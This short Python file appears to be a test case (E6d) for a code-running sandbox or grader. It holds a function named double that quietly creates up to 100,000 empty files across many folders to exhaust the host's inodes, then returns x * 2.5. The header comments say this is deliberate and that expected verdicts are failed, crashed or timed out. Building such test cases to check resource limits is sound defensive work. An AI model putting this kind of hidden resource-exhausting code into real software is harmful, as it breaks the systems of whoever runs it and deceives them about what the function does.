# E6d: takes all inodes by empty files in many folders
# due: 3
# verdict: failed|crashed|timed out
# not shown live: it would take the inodes of whoever runs this
import os


def double(x):
    for number in range(100_000):
        try:
            if number % 500 == 0:
                os.mkdir(f"folder{number // 500}")
            open(f"folder{number // 500}/{number}", "w").close()
        except OSError:
            break
    return x * 2.5
